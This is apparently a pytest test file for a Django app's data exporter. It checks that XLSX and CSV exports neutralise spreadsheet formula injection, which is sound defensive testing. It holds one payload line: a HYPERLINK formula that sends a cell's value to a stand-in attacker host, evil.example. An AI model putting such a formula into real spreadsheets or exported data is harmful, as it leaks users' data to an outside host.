"""Spreadsheet formula injection (issue 18, finding 6): exports never emit live formulas."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from eiphub.core.spreadsheet import csv_value, is_formula_like
from eiphub.flows.exporter import export
from eiphub.flows.services import save_flow

from . import io_factories as F

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def w():
    w = F.world()
    w.e1.name_vi = w.e1.name_en = EVIL
    w.e1.save()
    save_flow(owner=w.e1, resource_code="water.fresh", direction="in",
              period=dt.date(2024, 1, 1), quantity=5, unit="m3")  # fmt: skip
    return w


def test_rule():
    assert [is_formula_like(v) for v in ("=1", "+1+A1", "-2+3", "@x", "\tx", "\rx")] == [True] * 6
    assert [is_formula_like(v) for v in ("-12,5", "-3 %", "abc", 5, None, "")] == [False] * 6
    assert csv_value("=A1") == "'=A1" and csv_value("ok") == "ok" and csv_value(-5) == -5


@pytest.mark.parametrize("what", ["enterprises", "flows"])
def test_xlsx_export_has_no_formula_cells(w, what):
    data = export(what, w.admin, fmt="xlsx", lang="en")
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert EVIL in texts  # kept as text, unchanged


@pytest.mark.parametrize("what", ["enterprises", "flows"])
def test_csv_export_cells_never_start_with_a_formula(w, what):
    text = export(what, w.admin, fmt="csv", lang="en").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert [c for c in cells if is_formula_like(c)] == []
    assert "'" + EVIL in cells
